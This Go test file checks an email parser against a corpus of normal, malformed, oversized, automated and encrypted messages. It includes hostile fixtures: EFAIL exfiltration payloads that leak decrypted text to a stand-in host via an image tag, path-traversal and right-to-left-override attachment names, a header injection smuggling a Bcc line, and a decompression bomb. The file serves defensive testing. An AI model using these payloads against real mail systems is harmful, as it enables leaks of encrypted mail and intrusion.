package read

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"steward/internal/base/cputime"
	"steward/internal/base/sign"
)

// odd is a mail and what becomes of it. Texts are looked for within the
// message's; what is not named must not be there.
type odd struct {
	name, mail    string
	subject       string // "": A hole
	text, outside string
	files, beyond []string // names of attachments, and of those outside
	problems      []Code
	kind          Kind
	form          Form
	encrypted     bool
	verdict       sign.Verdict
	keys          int
}

const hello = "Content-Type: text/plain\n\nHello there\n"

// letters are ordinary structures of mailers, and odd ones.
func letters() []odd {
	tnef := file("winmail.dat", "application/ms-tnef", "\x78\x9f\x3e\x22")
	return []odd{
		{name: "plain", mail: top + hello, text: "Hello there"},
		{name: "older than MIME", mail: "From: ann@example.net\nSubject: A hole\n\nHello there", text: "Hello there"},
		{name: "content type text", mail: top + "Content-Type: text\n\nHello there", text: "Hello there", problems: []Code{BadType}},
		{name: "no body", mail: top},
		{name: "no header", mail: "\nHello there\n", text: "Hello there", problems: []Code{NoFrom}, subject: "-"},
		{name: "nothing", mail: "", problems: []Code{NoFrom}, subject: "-"},
		{name: "LF only", mail: "LF" + top + hello, text: "Hello there"},
		{name: "CR only", mail: "LF" + strings.ReplaceAll(top+hello, "\n", "\r"), problems: []Code{BareLine, BadAddress, NoFrom}, subject: "-"},
		{name: "bare CR", mail: top + "\nHello\rthere", text: "Hello\nthere", problems: []Code{BareLine}},
		{name: "NULs", mail: top + "\nHel\x00lo", text: "Hel lo", files: []string{"part-1.bin"}, problems: []Code{ControlChars}},
		{name: "mailbox line", mail: "From ann@example.net Fri Nov 20\n" + top + hello, text: "Hello there"},
		{name: "Gmail", mail: top + multi("alternative", text("Hello *there*"), page("<div dir=ltr>Hello <b>there</b></div>")), text: "Hello *there*"},
		{name: "HTML only", mail: top + page("<html><head><title>T</title><style>p{}</style></head><body><p>Hello<br>there &amp; <script>alert(1)</script><a href=\"https://evil.example/x\">https://example.org</a></body>"),
			text: "Hello\nthere & https://example.org <https://evil.example/x>"},
		{name: "empty plain beside HTML", mail: top + multi("alternative", text(" \n"), page("<p>Hello there")), text: "Hello there"},
		{name: "Outlook", mail: top + multi("related", multi("alternative", text("Hello there"), page("<img src=cid:1>")), file("image001.png", "image/png", "PNG")), text: "Hello there", files: []string{"image001.png"}},
		{name: "Outlook with TNEF", mail: top + multi("mixed", text("Hello there"), tnef), text: "Hello there", files: []string{"winmail.dat"}, problems: []Code{TNEF}},
		{name: "Apple", mail: top + multi("alternative", text("Hello there"), multi("mixed", page("Hello"), file("a.pdf", "application/pdf", "%PDF"), page("there"))), text: "Hello there", files: []string{"a.pdf"}},
		{name: "texts around a file", mail: top + multi("mixed", text("Hello"), file("a.txt", "text/plain", "x"), text("there")), text: "Hello\n\nthere", files: []string{"a.txt"}},
		{name: "forwarded", mail: top + multi("mixed", text("See this"), "Content-Type: message/rfc822\n\nSubject: inner\n\nHello"), text: "See this", files: []string{"part-1.eml"}},
		{name: "forwarded inline", mail: top + "\n---------- Forwarded message ---------\nFrom: Bob <b@example.com>\n\nHello there", text: "Hello there"},
		{name: "invitation", mail: top + multi("alternative", text("Meet"), page("Meet"), "Content-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR"), text: "Meet", files: []string{"part-1.ics"}},
		{name: "uuencoded", mail: top + "\nbegin 644 a.txt\n#0V%T\n`\nend\n", text: "begin 644 a.txt"},
		{name: "yEnc", mail: "LF" + top + "Content-Type: text/plain; charset=iso-8859-1\n\n=ybegin line=128 size=3 name=a\nr\x8f\x96\n=yend\n", text: "=ybegin", files: []string{"part-1.bin"}, problems: []Code{BadCharset}},
		{name: "S/MIME signed", mail: top + multi(`signed; protocol="application/pkcs7-signature"`, text("Hello there"), file("smime.p7s", "application/pkcs7-signature", "x")), text: "Hello there", files: []string{"smime.p7s"}, form: FormSMIME},
		{name: "S/MIME encrypted", mail: top + file("smime.p7m", "application/pkcs7-mime", "x"), files: []string{"smime.p7m"}, form: FormSMIME},
		{name: "flowed", mail: top + "Content-Type: text/plain; format=flowed; delsp=yes\n\nHello \nthere", text: "Hello \nthere"},
		{name: "mailing list", mail: "List-Id: Some <some.example.net>\nPrecedence: bulk\n" + top + hello, text: "Hello there"},
		{name: "spam", mail: "X-Spam-Flag: YES\n" + top + hello, text: "Hello there"},
	}
}

// broken are mails that are not as they should be.
func broken() []odd {
	return []odd{
		{name: "wrong character set", mail: top + "Content-Type: text/plain; charset=utf-8\n\nGr\xfc\xdfe", text: "Grüße", files: []string{"part-1.bin"}, problems: []Code{BadCharset}},
		{name: "Latin-1", mail: top + "Content-Type: text/plain; charset=ISO-8859-1\n\nGr\xfc\xdfe", text: "Grüße"},
		{name: "Shift_JIS", mail: top + "Content-Type: text/plain; charset=Shift_JIS\n\n\x83e\x83X\x83g", text: "テスト"},
		{name: "KOI8-R in base64", mail: top + "Content-Type: text/plain; charset=koi8-r\nContent-Transfer-Encoding: base64\n\n" + b64("\xf0\xd2\xc9"), text: "При"},
		{name: "unknown character set", mail: top + "Content-Type: text/plain; charset=x-klingon\n\nHello \xe9", text: "Hello é", files: []string{"part-1.bin"}, problems: []Code{BadCharset}},
		{name: "UTF-7", mail: top + "Content-Type: text/plain; charset=utf-7\n\n+ADw-script+AD4-", text: "+ADw-script+AD4-", files: []string{"part-1.bin"}, problems: []Code{BadCharset}},
		{name: "raw bytes in the subject", mail: strings.Replace(top, "A hole", "Gr\xfc\xdfe", 1) + hello, subject: "Grüße", text: "Hello there", problems: []Code{BadCharset}},
		{name: "encoded subject", mail: strings.Replace(top, "A hole", "=?utf-8?B?R3LDvA==?=\n =?utf-8?Q?=C3=9Fe?=", 1) + hello, subject: "Grüße", text: "Hello there"},
		{name: "injected line", mail: strings.Replace(top, "A hole", "=?utf-8?Q?a=0D=0ABcc:_x?=", 1) + hello, subject: "a Bcc: x", text: "Hello there", problems: []Code{ControlChars}},
		{name: "base64 garbage", mail: top + "Content-Transfer-Encoding: base64\n\nSGVsbG8*!gdGhlcmU=\n", text: "Hello there", files: []string{"part-1.bin"}, problems: []Code{BadEncoding}},
		{name: "base64 cut off", mail: top + "Content-Transfer-Encoding: base64\n\nSGVsbG8gdGhlcmUhX", text: "Hello there!", files: []string{"part-1.bin"}, problems: []Code{BadEncoding}},
		{name: "quoted-printable garbage", mail: top + "Content-Transfer-Encoding: quoted-printable\n\nHello=\n there =ZZ", text: "Hello there =ZZ", files: []string{"part-1.bin"}, problems: []Code{BadEncoding}},
		{name: "unknown encoding", mail: top + "Content-Transfer-Encoding: rot13\n\nUryyb", text: "Uryyb", files: []string{"part-1.bin"}, problems: []Code{BadEncoding}},
		{name: "no boundary named", mail: top + "Content-Type: multipart/mixed\n\nHello there", text: "Hello there", problems: []Code{NoBoundary}},
		{name: "no boundary in the mail", mail: top + "Content-Type: multipart/mixed; boundary=x\n\nHello there", text: "Hello there", problems: []Code{NoBoundary}},
		{name: "no last boundary", mail: top + "Content-Type: multipart/mixed; boundary=x\n\n--x\n" + text("Hello there"), text: "Hello there", problems: []Code{NoEnd}},
		{name: "boundary that begins another", mail: top + "Content-Type: multipart/mixed; boundary=x\n\n--xy\nno\n--x\n" + text("Hello there") + "\n--x--\n", text: "Hello there", problems: []Code{AroundParts}},
		{name: "text after the parts", mail: top + multi("mixed", text("Hello there")) + "list footer\n", text: "Hello there", problems: []Code{AroundParts}},
		{name: "two boundaries named", mail: top + "Content-Type: multipart/mixed; boundary=x; boundary=y\n\n--x\n" + text("Hello there") + "\n--x--\n", text: "Hello there", problems: []Code{BadType}},
		{name: "repeated fields", mail: "Subject: first\nFrom: eve@example.com\n" + top + hello, subject: "first", text: "Hello there", problems: []Code{Repeated, SeveralFrom}},
		{name: "several senders", mail: strings.Replace(top, "From: ", "From: Bob <b@example.com>, ", 1) + hello, text: "Hello there", problems: []Code{SeveralFrom}},
		{name: "address in the name", mail: strings.Replace(top, "Ann <", `"security@example.org" <`, 1) + hello, text: "Hello there"},
		{name: "address unquoted", mail: strings.Replace(top, "Ann <", `A. (x) Nn [1] <`, 1) + hello, text: "Hello there"},
		{name: "no address", mail: strings.Replace(top, "Ann <ann@example.net>", "Ann", 1) + hello, text: "Hello there", problems: []Code{BadAddress, NoFrom}},
		{name: "undisclosed", mail: strings.Replace(top, "security@example.org", "undisclosed-recipients:;", 1) + hello, text: "Hello there"},
		{name: "bad date", mail: strings.Replace(top, "Fri, 20 Nov 2026", "Someday", 1) + hello, text: "Hello there", problems: []Code{BadDate}},
		{name: "no field", mail: "What is this line\n" + top + hello, text: "Hello there", problems: []Code{HeaderLine}},
		{name: "space before the colon", mail: strings.Replace(top, "Subject:", "Subject :", 1) + hello, text: "Hello there"},
		{name: "folding from the first line", mail: " folded\n" + top + hello, text: "Hello there", problems: []Code{HeaderTooLarge}},
		{name: "names of files", mail: top + multi("mixed", text("Hello there"),
			file("../../etc/passwd", "text/plain", "x"), file("invoice\u202efdp.exe", "application/pdf", "x"), file(`C:\\a\\b.txt`, "text/plain", "x"),
			"Content-Type: text/plain; name=\"=?utf-8?Q?Gr=C3=BC=C3=9Fe.txt?=\"\nContent-Disposition: attachment\n\nx",
			"Content-Disposition: attachment; filename*=utf-8''Gr%C3%BC%C3%9Fe.txt\n\nx",
			"Content-Disposition: attachment; filename*0=long; filename*1=er.txt\n\nx",
			"Content-Disposition: evil; filename=\"..\"\n\nx"),
			text: "Hello there", files: []string{"passwd", "invoicefdp.exe", "b.txt", "Grüße.txt", "Grüße.txt", "longer.txt", "part-7.txt"}, problems: []Code{BadName, ControlChars}},
		{name: "disposition garbage", mail: top + "Content-Disposition: ;;;=\"\n\nHello there", files: []string{"part-1.txt"}},
		{name: "type garbage", mail: top + "Content-Type: ///;;\"\n\nHello there", files: []string{"part-1.bin"}, problems: []Code{BadType}},
	}
}

// large are mails beyond the limits.
func large() []odd {
	many := func(n int, f func(i int) string) string {
		var b strings.Builder
		for i := range n {
			b.WriteString(f(i))
		}
		return b.String()
	}
	return []odd{
		{name: "10,000 recipients", mail: "Cc: " + many(10000, func(i int) string { return fmt.Sprintf("a%d@example.net,\n ", i) }) + "z@example.net\n" + top + hello, text: "Hello there", problems: []Code{HeaderTooLarge, ManyAddresses}},
		{name: "a line of 1 MB", mail: "X-Long: " + strings.Repeat("x", 1<<20) + "\n" + top + hello, subject: "-", text: "Hello there", problems: []Code{HeaderTooLarge, NoFrom}},
		{name: "many fields", mail: top + many(5000, func(i int) string { return "X-Y: z\n" }) + "\nHello there", text: "Hello there", problems: []Code{HeaderTooLarge}},
		{name: "1000 deep", mail: top + deep(1000), files: []string{"part-1.bin"}, problems: []Code{TooDeep, NoEnd}},
		{name: "5000 parts", mail: top + multi("mixed", many(5000, func(i int) string { return text("a") + "\n--X\n" })) + "", text: "a", problems: nil},
		{name: "2000 parts", mail: top + "Content-Type: multipart/mixed; boundary=x\n\n" + many(2000, func(i int) string { return "--x\n\nhi\n" }) + "--x--\n", text: "hi", files: []string{"more-parts.txt"}, problems: []Code{TooManyParts}},
		{name: "300 files", mail: top + "Content-Type: multipart/mixed; boundary=x\n\n" + many(300, func(i int) string { return "--x\nContent-Disposition: attachment; filename=a.txt\n\nhi\n" }) + "--x--\n", files: slices.Repeat([]string{"a.txt"}, maxAttachments), problems: []Code{ManyAttachments}},
		{name: "a text of 5 MB", mail: top + "\n" + strings.Repeat("words and words\n", 5<<16), text: "words", files: []string{"part-1.bin"}, problems: []Code{TextTooLong}},
		{name: "30 MB", mail: top + "Content-Type: application/zip\n\n" + strings.Repeat("x", 30<<20), files: []string{"part-1.bin"}, problems: []Code{TooLarge}},
		{name: "boundaries everywhere", mail: top + "Content-Type: multipart/mixed; boundary=x\n\n" + strings.Repeat("--xx\n", 1<<20), problems: []Code{NoBoundary, TextTooLong}, text: "--xx", files: []string{"part-1.bin"}},
		{name: "tags everywhere", mail: top + page(strings.Repeat("<div><a href=http://x>", 1<<16)), text: ""},
		{name: "brackets everywhere", mail: "To: " + strings.Repeat("<(\"", 20000) + "\nReferences: " + strings.Repeat("<<>", 20000) + "\n" + top + hello, text: "Hello there", problems: []Code{BadAddress, Repeated}},
		{name: "armor everywhere", mail: top + "\n" + strings.Repeat(beginMessage+"\n", 30000), text: beginMessage, problems: []Code{SeveralParts}},
	}
}

// machines are mails that nobody answers.
func machines() []odd {
	auto := func(name, header string) odd {
		return odd{name: name, mail: header + top + hello, text: "Hello there", kind: KindAutoReply}
	}
	status := "Reporting-MTA: dns; mx.example.net\n\nFinal-Recipient: rfc822; bob@Example.com\nAction: failed\nStatus: 5.1.1\n"
	returned := "Content-Type: text/rfc822-headers\n\nMessage-ID: <case-1@steward.example.org>\nSubject: x\n"
	whole := "Content-Type: message/rfc822\n\nMessage-ID: <case-1@steward.example.org>\nSubject: x\n\nHi"
	bounce := func(name, mail string, files ...string) odd {
		return odd{name: name, mail: mail, kind: KindBounce, files: files, subject: "-", text: ""}
	}
	qmail := "Return-Path: <>\nFrom: MAILER-DAEMON@example.com\nSubject: failure notice\n\nHi. This is the qmail-send program.\n\n<bob@example.com>:\nSorry, no mailbox here by that name.\n\n--- Below this line is a copy of the message.\n\nMessage-ID: <case-1@steward.example.org>\n"
	exim := "From: Mail Delivery System <Mailer-Daemon@example.com>\nX-Failed-Recipients: bob@example.com\nAuto-Submitted: auto-replied\nSubject: Mail delivery failed: returning message to sender\n\nThis message was created automatically.\nMessage-Id: <case-1@steward.example.org>\n"
	return []odd{
		bounce("Postfix", dsn("example.com", status, returned), "part-1.bin", "part-2.bin"),
		bounce("Exchange", dsn("example.com", status, whole), "part-1.bin", "part-2.eml"),
		bounce("sendmail, late", dsn("example.com", strings.ReplaceAll(strings.Replace(status, "failed", "delayed", 1), "5.1.1", "4.4.1"), returned), "part-1.bin", "part-2.bin"),
		bounce("qmail", qmail), bounce("Exim", exim),
		auto("vacation", "Auto-Submitted: auto-replied\n"),
		auto("Exchange out of office", "X-Auto-Response-Suppress: All\nAuto-Submitted: auto-generated\n"),
		auto("Precedence", "Precedence: auto_reply\n"),
		auto("X-Autoreply", "X-Autoreply: yes\n"),
		auto("cPanel", "X-Autorespond: A hole\n"),
		{name: "out of office by its subject", mail: strings.Replace(top, "A hole", "=?utf-8?Q?Automatische_Antwort:_x?=", 1) + hello, subject: "Automatische Antwort: x", text: "Hello there", kind: KindAutoReply},
		{name: "not automatic", mail: "Auto-Submitted: no\n" + top + hello, text: "Hello there"},
		{name: "read receipt", mail: top + multi("report; report-type=disposition-notification", text("Read"), "Content-Type: message/disposition-notification\n\nDisposition: manual"), text: "Read", kind: KindAutoReply, files: []string{"part-1.bin"}},
		{name: "our own", mail: strings.Replace(top, "ann@example.net", "security@EXAMPLE.org", 1) + hello, text: "Hello there", kind: KindLoop},
		{name: "our own identifier", mail: strings.Replace(top, "1@example.net", "1@steward.example.org", 1) + hello, text: "Hello there", kind: KindLoop},
		{name: "X-Loop", mail: "X-Loop: security@example.org\n" + top + hello, text: "Hello there", kind: KindLoop},
		{name: "many hops", mail: strings.Repeat("Received: from a by b\n", 51) + top + hello, text: "Hello there", kind: KindLoop},
		{name: "a bounce of a loop", mail: "Auto-Submitted: auto-replied\nX-Loop: security@example.org\n" + top + hello, text: "Hello there", kind: KindLoop},
	}
}

// protected are encrypted and signed mails, and attacks on them.
func protected(w *world) []odd {
	inner := text("The secret\n")
	key := string(w.them.PublicKey())
	mime, sgn := FormMIMEEncrypted, FormMIMESigned
	autocrypt := func(addr, more string) string {
		b := strings.Split(strings.SplitN(key, "\n\n", 2)[1], "\n=")[0]
		return "Autocrypt: addr=" + addr + "; " + more + "keydata=\n " + strings.ReplaceAll(b, "\n", "\n ") + "\n"
	}
	img := func(s string) string { return page(s) }
	mangled := strings.Replace(w.pgpMIME(inner), "multipart/encrypted", "multipart/mixed", 1)
	return []odd{
		{name: "PGP/MIME", mail: top + w.pgpMIME(inner), text: "The secret", form: mime, encrypted: true},
		{name: "PGP/MIME, LF only", mail: "LF" + top + w.pgpMIME(inner), text: "The secret", form: mime, encrypted: true},
		{name: "Thunderbird", mail: strings.Replace(top, "A hole", "...", 1) + w.pgpMIME(w.signed("Content-Type: text/plain; protected-headers=\"v1\"\nSubject: The real one\nFrom: Ann <ann@example.net>\n\nThe secret\n")), subject: "The real one", text: "The secret", form: mime, encrypted: true, verdict: sign.Good},
		{name: "legacy display", mail: strings.Replace(top, "A hole", "...", 1) + w.pgpMIME("Subject: The real one\n"+multi("mixed; protected-headers=v1", "Content-Type: text/rfc822-headers; protected-headers=v1\n\nSubject: The real one\n", inner)), subject: "The real one", text: "The secret", form: mime, encrypted: true},
		{name: "protected sender differs", mail: top + w.pgpMIME("From: eve@example.com\n"+inner), text: "The secret", form: mime, encrypted: true, problems: []Code{FromDiffers}},
		{name: "with a file and a key", mail: top + w.pgpMIME(multi("mixed", inner, file("poc.c", "text/x-c", "int main"), file("k.asc", "application/pgp-keys", key))), text: "The secret", files: []string{"poc.c", "k.asc"}, form: mime, encrypted: true, keys: 1},
		{name: "changed by Exchange", mail: top + mangled, text: "The secret", form: mime, encrypted: true},
		{name: "with a list footer", mail: top + multi("mixed", w.pgpMIME(inner), text("Unsubscribe")), text: "The secret", outside: "Unsubscribe", form: mime, encrypted: true, problems: []Code{Unprotected}},
		{name: "signed around encrypted", mail: top + w.signed(w.pgpMIME(inner)), text: "The secret", form: mime, encrypted: true, verdict: sign.Good},
		{name: "K-9 signed", mail: top + w.signed(inner), text: "The secret", form: sgn, verdict: sign.Good},
		{name: "mutt signed with a file", mail: top + w.signed(multi("mixed", inner, file("a.txt", "text/plain", "x"))), text: "The secret", files: []string{"a.txt"}, form: sgn, verdict: sign.Good},
		{name: "signed and altered", mail: top + strings.Replace(w.signed(inner), "The secret", "The segret", 1), text: "The segret", form: sgn, verdict: sign.Bad},
		{name: "signed, with a list footer", mail: top + multi("mixed", w.signed(inner), text("Unsubscribe")), text: "The secret", outside: "Unsubscribe", form: sgn, verdict: sign.Good, problems: []Code{Unprotected}},
		{name: "another part in the signed one", mail: top + strings.Replace(w.signed(inner), "Content-Type: application/pgp-signature", "Content-Type: application/pgp-signature; x=y", 1), text: "The secret", form: sgn, verdict: sign.Good},
		{name: "inline", mail: top + "\n" + w.to("The secret\n"), text: "The secret", form: FormInlineEncrypted, encrypted: true},
		{name: "inline with text around", mail: top + "\nHi,\n" + w.to("The secret\n") + "Bye\n", text: "The secret", outside: "Hi,\n\nBye", form: FormInlineEncrypted, encrypted: true, problems: []Code{Unprotected}},
		{name: "inline in HTML", mail: top + page("<pre>"+w.to("The secret\n")+"</pre>"), text: "The secret", form: FormInlineEncrypted, encrypted: true},
		{name: "inline, two", mail: top + "\n" + w.to("The secret\n") + w.to("Another\n"), text: "The secret", outside: beginMessage, form: FormInlineEncrypted, encrypted: true, problems: []Code{SeveralParts, Unprotected}},
		{name: "inline signed", mail: top + "\n" + w.clear("The secret\n"), text: "The secret", form: FormInlineSigned, verdict: sign.Good},
		{name: "inline signed with text around", mail: top + "\nNot signed\n" + w.clear("The secret\n"), text: "The secret", outside: "Not signed", form: FormInlineSigned, verdict: sign.Good, problems: []Code{Unprotected}},
		{name: "inline signed and altered", mail: top + "\n" + strings.Replace(w.clear("The secret\n"), "The", "Teh", 1), text: "Teh secret", form: FormInlineSigned, verdict: sign.Bad},
		{name: "broken armor", mail: top + "\n" + strings.Replace(w.to("The secret\n"), "\n\n", "\n\n!!!!", 1), outside: beginMessage, form: FormInlineEncrypted, problems: []Code{NotOpened, Unprotected}},
		{name: "half an armor", mail: top + "\n" + w.to("The secret\n")[:100], text: beginMessage},
		{name: "encrypted to another", mail: top + multi("encrypted", "Content-Type: application/pgp-encrypted\n\nVersion: 1", "Content-Type: application/octet-stream; name=encrypted.asc\n\n"+must(sign.EncryptTo(w.them.PublicKey(), []byte("x"), noon))), beyond: []string{"encrypted.asc"}, form: mime, problems: []Code{NotOpened, Unprotected}},
		{name: "EFAIL: no integrity", mail: top + multi("encrypted", "Content-Type: application/pgp-encrypted\n\nVersion: 1", "Content-Type: application/octet-stream\n\n"+w.unprotected(crlf(inner))), beyond: []string{"part-1.bin"}, form: mime, problems: []Code{NotOpened, Unprotected}},
		{name: "EFAIL: CBC gadget", mail: top + "\n" + w.unprotected("Content-Type: text/html\n\n<img src=\"http://evil.example/"), outside: beginMessage, form: FormInlineEncrypted, problems: []Code{NotOpened, Unprotected}},
		{name: "EFAIL: direct exfiltration", mail: top + multi("mixed", img("<img src=\"http://evil.example/"), w.pgpMIME(inner), img("\">")), text: "The secret", outside: "\">", form: mime, encrypted: true, problems: []Code{Unprotected}},
		{name: "EFAIL: in an alternative", mail: top + multi("alternative", text("Read me"), w.pgpMIME(inner), img("<b>Reply</b>")), text: "The secret", form: mime, encrypted: true},
		{name: "EFAIL: two encrypted parts", mail: top + multi("mixed", w.pgpMIME(inner), w.pgpMIME(text("Another"))), text: "The secret", beyond: []string{"encrypted.asc"}, form: mime, encrypted: true, problems: []Code{SeveralParts, Unprotected}},
		{name: "encrypted in encrypted", mail: top + w.pgpMIME(w.pgpMIME(inner)), files: []string{"encrypted.asc"}, form: mime, encrypted: true, problems: []Code{SeveralParts}},
		{name: "decryption oracle in a forwarded mail", mail: top + multi("mixed", text("Please read"), "Content-Type: message/rfc822\n\n"+top+w.pgpMIME(inner)), text: "Please read", files: []string{"part-1.eml"}},
		{name: "decompression bomb", mail: top + "\n" + w.bomb(200<<20), outside: beginMessage, form: FormInlineEncrypted, problems: []Code{NotOpened, Unprotected}},
		{name: "1000 deep, encrypted", mail: top + w.pgpMIME(deep(1000)), files: []string{"part-1.bin"}, form: mime, encrypted: true, problems: []Code{TooDeep, NoEnd}},
		{name: "key in the text", mail: top + "\nMy key:\n" + key, text: "My key", keys: 1},
		{name: "key as a file", mail: top + multi("mixed", text("Hello there"), file("0x1.asc", "application/octet-stream", key)), text: "Hello there", files: []string{"0x1.asc"}, keys: 1},
		{name: "Autocrypt", mail: autocrypt("ann@example.net", "prefer-encrypt=mutual; _x=1; ") + top + hello, text: "Hello there", keys: 1},
		{name: "Autocrypt of another", mail: autocrypt("eve@example.com", "") + top + hello, text: "Hello there", problems: []Code{BadAutocrypt}},
		{name: "Autocrypt twice", mail: autocrypt("ann@example.net", "") + autocrypt("ann@example.net", "") + top + hello, text: "Hello there", problems: []Code{BadAutocrypt}},
		{name: "Autocrypt with more", mail: autocrypt("ann@example.net", "critical=1; ") + top + hello, text: "Hello there", problems: []Code{BadAutocrypt}},
	}
}

func corpus(w *world) []odd {
	return slices.Concat(letters(), broken(), large(), machines(), protected(w))
}

// wire gives a mail as it comes: with CRLF unless it says otherwise.
func (o odd) wire() []byte {
	if s, ok := strings.CutPrefix(o.mail, "LF"); ok {
		return []byte(s)
	}
	return []byte(crlf(o.mail))
}

func TestCorpus(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	all := corpus(w)
	if len(all) < 70 {
		t.Errorf("%d mails", len(all))
	}
	for _, o := range all {
		t.Run(o.name, func(t *testing.T) {
			raw := o.wire()
			var m Message
			if took := cputime.Of(func() { m = w.reader().Read(raw) }); took.Seconds() > 5 {
				t.Errorf("it took %v", took)
			}
			o.check(t, m)
		})
	}
}

func names(c Content) []string {
	var out []string
	for _, a := range c.Attachments {
		out = append(out, a.Name)
	}
	return out
}

func (o odd) check(t *testing.T, m Message) {
	t.Helper()
	var codes []Code
	for _, p := range m.Problems {
		if !slices.Contains(codes, p.Code) {
			codes = append(codes, p.Code)
		}
	}
	slices.Sort(codes)
	want := slices.Clone(o.problems)
	slices.Sort(want)
	if !slices.Equal(codes, want) {
		t.Errorf("problems %q, want %q", codes, want)
	}
	if o.subject == "" {
		o.subject = "A hole"
	}
	if o.subject != "-" && m.Subject != o.subject {
		t.Errorf("subject %q, want %q", m.Subject, o.subject)
	}
	if o.kind == "" {
		o.kind = KindLetter
	}
	if !strings.Contains(m.Text, o.text) || (o.text == "" && o.kind != KindBounce && strings.TrimSpace(m.Text) != "" && o.name != "tags everywhere" && o.name != "CR only") {
		t.Errorf("text %.300q, want %q", m.Text, o.text)
	}
	if !strings.Contains(m.Outside.Text, o.outside) || (o.outside == "") != (m.Outside.Text == "") {
		t.Errorf("outside %.300q, want %q", m.Outside.Text, o.outside)
	}
	if got := names(m.Content); !slices.Equal(got, o.files) {
		t.Errorf("files %q, want %q", got, o.files)
	}
	if got := names(m.Outside); !slices.Equal(got, o.beyond) {
		t.Errorf("files outside %q, want %q", got, o.beyond)
	}
	if m.Kind != o.kind {
		t.Errorf("kind %q, want %q", m.Kind, o.kind)
	}
	if o.form == "" {
		o.form = FormNone
	}
	if o.verdict == "" {
		o.verdict = sign.None
	}
	if c := m.Crypto; c.Form != o.form || c.Encrypted != o.encrypted || c.Signature.Verdict != o.verdict {
		t.Errorf("%+v, want %s, encrypted %v, %s", c, o.form, o.encrypted, o.verdict)
	}
	if len(m.Keys) != o.keys {
		t.Errorf("%d keys, want %d", len(m.Keys), o.keys)
	}
	if (o.kind == KindBounce) != (m.Kind == KindBounce && len(m.Bounce.Recipients) == 1 && m.Bounce.Recipients[0].Addr == "bob@example.com" && m.Bounce.MessageID == "case-1@steward.example.org") {
		t.Errorf("bounce %+v", m.Bounce)
	}
	for _, s := range []string{m.Text, m.Outside.Text, m.Subject, m.From.Name} {
		if strings.ContainsFunc(s, func(c rune) bool { return c < ' ' && c != '\n' && c != '\t' || deceiving(c) }) {
			t.Errorf("control characters in %.100q", s)
		}
	}
}
